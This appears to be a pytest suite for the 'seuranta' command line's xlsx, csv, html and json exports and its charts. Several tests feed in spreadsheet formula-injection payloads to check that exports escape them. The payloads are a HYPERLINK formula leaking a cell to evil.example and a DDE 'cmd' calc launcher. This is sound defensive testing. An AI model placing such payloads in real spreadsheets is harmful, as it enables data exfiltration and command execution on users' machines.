"""`seuranta export --format xlsx|csv|html` and `seuranta chart`, as the command line runs them."""

from __future__ import annotations

import io
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from data import queries, rounds
from data.db import make_engine, make_sessionmaker, transaction
from reports.table import COLUMNS
from seuranta.cli import main
from seuranta.settings import load_settings
from tests.support.exports import HOSTILE_REPORTER, csv_rows, store_hostile_texts, xlsx_rows
from tests.support.programme import NOW


@pytest.fixture(autouse=True)
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh SQLite file; the first command migrates it and imports the bundled programme."""
    path = tmp_path / "cli.sqlite3"
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{path}")
    for name in ("SEURANTA_LANGUAGE", "SEURANTA_TIMEZONE", "SEURANTA_HIDE_STATUS_NOTES"):
        monkeypatch.delenv(name, raising=False)
    return path


def test_export_xlsx(tmp_path: Path) -> None:
    out = tmp_path / "seuranta.xlsx"
    assert main(["export", "--format", "xlsx", "--as-of", "2018-12-17", "--out", str(out)]) == 0
    sheet = load_workbook(io.BytesIO(out.read_bytes())).active
    assert sheet is not None
    assert sheet.max_row == 40
    assert sheet["A1"].value == "Nro"
    assert sheet.freeze_panes == "A2"


def test_export_csv_and_html_in_swedish(tmp_path: Path) -> None:
    csv_out, html_out = tmp_path / "t.csv", tmp_path / "t.html"
    assert main(["export", "--format", "csv", "--lang", "sv", "--out", str(csv_out)]) == 0
    assert csv_out.read_text(encoding="utf-8-sig").startswith("Nr,Åtgärd,Genomförande")
    assert main(["export", "--format", "html", "--lang", "sv", "--out", str(html_out)]) == 0
    assert '<html lang="sv">' in html_out.read_text(encoding="utf-8")


def test_json_export_is_unchanged(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert set(document) == {"programme", "measures"}
    assert len(document["measures"]) == 39


def test_chart_status_png(tmp_path: Path) -> None:
    out = tmp_path / "status.png"
    assert main(["chart", "status", "--as-of", "2018-12-17", "--out", str(out)]) == 0
    assert out.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_chart_timeline_svg_in_english(tmp_path: Path) -> None:
    out = tmp_path / "timeline.svg"
    assert main(["chart", "timeline", "--lang", "en", "--out", str(out)]) == 0
    assert b"Deadlines by theme" in out.read_bytes()


def test_response_chart_takes_the_rounds_as_numbers(tmp_path: Path) -> None:
    out = tmp_path / "response.svg"
    rounds = ["--round", "2018-10=12/20", "--round", "2018-12=19/20"]
    assert main(["chart", "response", *rounds, "--out", str(out)]) == 0
    assert b"19/20" in out.read_bytes()


def test_without_numbers_the_response_chart_draws_the_rounds_run_in_slack(
    tmp_path: Path,
) -> None:
    assert main(["import"]) == 0
    settings = load_settings()
    factory = make_sessionmaker(make_engine(settings.database_url))
    with transaction(factory) as session:
        version = queries.current_programme_version(session)
        assert version is not None
        rounds.start(
            session,
            programme_id=version[0],
            due=date(2030, 1, 15),
            pattern="2.*",
            started_by="UADMIN",
            now=NOW,
            today=NOW.date(),
        )
    out = tmp_path / "response.svg"
    assert main(["chart", "response", "--out", str(out)]) == 0
    assert b"0/14" in out.read_bytes()


def test_chart_errors_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["chart", "status", "--out", str(tmp_path / "x.pdf")]) == 2
    assert "name the file .png or .svg" in capsys.readouterr().err
    assert main(["chart", "response", "--out", str(tmp_path / "r.png")]) == 2
    assert "no reporting rounds yet" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(["chart", "response", "--round", "2018=21/20", "--out", str(tmp_path / "r.png")])


def hostile_programme() -> None:
    """The bundled programme with HOSTILE_NOTES and HOSTILE_DEADLINE stored in the database."""
    assert main(["import"]) == 0
    store_hostile_texts(make_sessionmaker(make_engine(load_settings().database_url)))


def test_an_xlsx_export_of_hostile_notes_succeeds_and_no_cell_is_a_formula(
    tmp_path: Path,
) -> None:
    hostile_programme()
    out = tmp_path / "seuranta.xlsx"

    assert main(["export", "--format", "xlsx", "--as-of", "2018-12-17", "--out", str(out)]) == 0

    rows = {row[0]: row for row in xlsx_rows(out.read_bytes())}  # checks every cell
    note = COLUMNS.index("note")
    assert rows["1.2"][note] == '\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
    assert rows["2.1"][note] == "'+1+cmd|' /C calc'!A0"
    assert rows["2.2"][note] == "'-2+3"
    assert rows["2.3"][note] == "'@SUM(1+1)\nWordin rivinvaihto"
    assert rows["2.4"][note] == "'=1+1"
    schedule = rows["1.1"][COLUMNS.index("schedule")]
    assert isinstance(schedule, str)
    assert schedule.startswith("'=1+2\npäivitetty [31.3.2019]\n")


def test_a_csv_export_of_hostile_notes_quotes_every_formula(tmp_path: Path) -> None:
    hostile_programme()
    out = tmp_path / "seuranta.csv"

    assert main(["export", "--format", "csv", "--as-of", "2018-12-17", "--out", str(out)]) == 0

    rows = {row[0]: row for row in csv_rows(out.read_bytes())}  # checks every cell
    note = COLUMNS.index("note")
    assert rows["1.2"][note].startswith("'=HYPERLINK(")
    assert [rows[n][note][:2] for n in ("2.1", "2.2", "2.3", "2.4")] == ["'+", "'-", "'@", "'="]
    assert rows["1.1"][COLUMNS.index("schedule")].startswith("'=1+2\npäivitetty [31.3.2019]")


def test_hidden_notes_leave_the_note_and_the_reporter_out_of_every_table(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile_programme()
    monkeypatch.setenv("SEURANTA_HIDE_STATUS_NOTES", "true")
    outs = {fmt: tmp_path / f"t.{fmt}" for fmt in ("xlsx", "csv", "html")}
    for fmt, out in outs.items():
        assert main(["export", "--format", fmt, "--out", str(out)]) == 0

    xlsx, csv_ = xlsx_rows(outs["xlsx"].read_bytes()), csv_rows(outs["csv"].read_bytes())
    for header in (xlsx[0], tuple(csv_[0])):
        assert header == ("Nro", "Toimenpide", "Toimeenpano", "Vastuutaho", "Aikataulut", "Tila",
                          "Raportoitu", "Myöhässä olevia määräaikoja")  # fmt: skip
    html = outs["html"].read_text(encoding="utf-8")
    for shown in (str(xlsx), str(csv_), html):
        assert "HYPERLINK" not in shown
        assert HOSTILE_REPORTER not in shown
    assert "Riski viivästyä" in html  # the state itself stays public
    assert main(["export", "--out", str(tmp_path / "p.json")]) == 0
    document = json.loads((tmp_path / "p.json").read_text(encoding="utf-8"))
    statuses = [m["status"] for m in document["measures"] if m["status"]]
    assert {(s["state"], s["note"], s["reporter"]) for s in statuses} == {("at_risk", "", "")}
